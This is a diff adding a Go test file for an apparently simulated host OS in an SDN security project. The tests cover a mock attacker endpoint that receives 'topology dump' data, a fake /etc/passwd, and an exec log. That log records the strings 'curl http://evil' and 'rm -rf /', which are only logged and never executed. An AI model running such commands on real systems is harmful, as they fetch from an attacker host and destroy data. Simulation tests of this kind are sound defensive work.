@@ -1,0 +1,98 @@
+package hostsim
+
+import (
+	"sync"
+	"testing"
+
+	"sdnshield/internal/of"
+)
+
+func TestConnectAndDeliver(t *testing.T) {
+	h := NewHostOS()
+	attacker := h.RegisterEndpoint(of.IPv4FromOctets(203, 0, 113, 9), 80)
+
+	if _, err := h.Connect(of.IPv4FromOctets(1, 2, 3, 4), 80); err == nil {
+		t.Error("connect to unregistered endpoint should be refused")
+	}
+	conn, err := h.Connect(of.IPv4FromOctets(203, 0, 113, 9), 80)
+	if err != nil {
+		t.Fatal(err)
+	}
+	conn.Send([]byte("topology dump"))
+	conn.Send([]byte("stats dump"))
+
+	got := attacker.Received()
+	if len(got) != 2 || string(got[0]) != "topology dump" {
+		t.Errorf("received = %q", got)
+	}
+	// Snapshots don't alias internal state.
+	got[0][0] = 'X'
+	if string(attacker.Received()[0]) != "topology dump" {
+		t.Error("snapshot aliases endpoint buffer")
+	}
+	// Re-registering returns the same endpoint.
+	again := h.RegisterEndpoint(of.IPv4FromOctets(203, 0, 113, 9), 80)
+	if again != attacker {
+		t.Error("duplicate registration must return the existing endpoint")
+	}
+	ip, port := attacker.Addr()
+	if ip != of.IPv4FromOctets(203, 0, 113, 9) || port != 80 {
+		t.Error("Addr wrong")
+	}
+}
+
+func TestFilesystem(t *testing.T) {
+	h := NewHostOS()
+	if _, err := h.ReadFile("/etc/passwd"); err == nil {
+		t.Error("missing file should error")
+	}
+	h.WriteFile("/etc/passwd", []byte("root:x"))
+	h.WriteFile("/var/log/ctl.log", []byte("log"))
+	data, err := h.ReadFile("/etc/passwd")
+	if err != nil || string(data) != "root:x" {
+		t.Errorf("ReadFile = %q, %v", data, err)
+	}
+	files := h.Files()
+	if len(files) != 2 || files[0] != "/etc/passwd" {
+		t.Errorf("Files = %v", files)
+	}
+	// Returned data must not alias storage.
+	data[0] = 'X'
+	if fresh, _ := h.ReadFile("/etc/passwd"); string(fresh) != "root:x" {
+		t.Error("ReadFile aliases storage")
+	}
+}
+
+func TestExecLog(t *testing.T) {
+	h := NewHostOS()
+	h.Exec("curl http://evil")
+	h.Exec("rm -rf /")
+	log := h.ExecLog()
+	if len(log) != 2 || log[1] != "rm -rf /" {
+		t.Errorf("ExecLog = %v", log)
+	}
+}
+
+func TestConcurrentUse(t *testing.T) {
+	h := NewHostOS()
+	ep := h.RegisterEndpoint(of.IPv4FromOctets(10, 0, 0, 1), 443)
+	var wg sync.WaitGroup
+	for i := 0; i < 8; i++ {
+		wg.Add(1)
+		go func(n int) {
+			defer wg.Done()
+			for j := 0; j < 100; j++ {
+				if conn, err := h.Connect(of.IPv4FromOctets(10, 0, 0, 1), 443); err == nil {
+					conn.Send([]byte{byte(n)})
+				}
+				h.WriteFile("/tmp/f", []byte{byte(j)})
+				h.Exec("noop")
+				h.Files()
+			}
+		}(i)
+	}
+	wg.Wait()
+	if len(ep.Received()) != 800 {
+		t.Errorf("received %d payloads, want 800", len(ep.Received()))
+	}
+}
